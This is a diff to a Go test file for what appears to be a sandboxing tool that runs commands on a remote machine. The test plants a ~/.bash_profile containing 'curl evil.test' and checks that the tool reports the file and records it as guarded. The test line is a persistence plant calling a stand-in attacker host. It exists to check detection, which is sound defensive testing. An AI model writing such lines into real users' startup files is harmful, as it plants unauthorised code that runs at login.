@@ -11,6 +11,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"syscall"
@@ -409,8 +410,12 @@ func TestRemoteRunReachesUpstreamThroughItsDoor(t *testing.T) {
 	// when the run ends.
 	_, stderr, code = r.C.postern(t, "run", "--machine", "far", "--policy", pol, "--resolver", r.resolver(), "--",
 		"sh", "-c", `echo 'curl evil.test' > "$HOME/.bash_profile"`)
-	if want := filepath.Join(r.Remote.Home, ".bash_profile") + " appeared during the run."; code != 0 || !strings.Contains(stderr, want) {
-		t.Fatalf("remote run planting ~/.bash_profile: exit %d, stderr %q; want %q", code, stderr, want)
+	planted := filepath.Join(r.Remote.Home, ".bash_profile") + " appeared during the run"
+	if code != 0 || !strings.Contains(stderr, planted+".") {
+		t.Fatalf("remote run planting ~/.bash_profile: exit %d, stderr %q; want %q", code, stderr, planted)
+	}
+	if g := lastRun(t, r.C).Guarded; !slices.Equal(g, []string{planted}) {
+		t.Fatalf("the remote run's record names %q, want %q", g, planted)
 	}
 	os.Remove(filepath.Join(r.Remote.Home, ".bash_profile"))
 
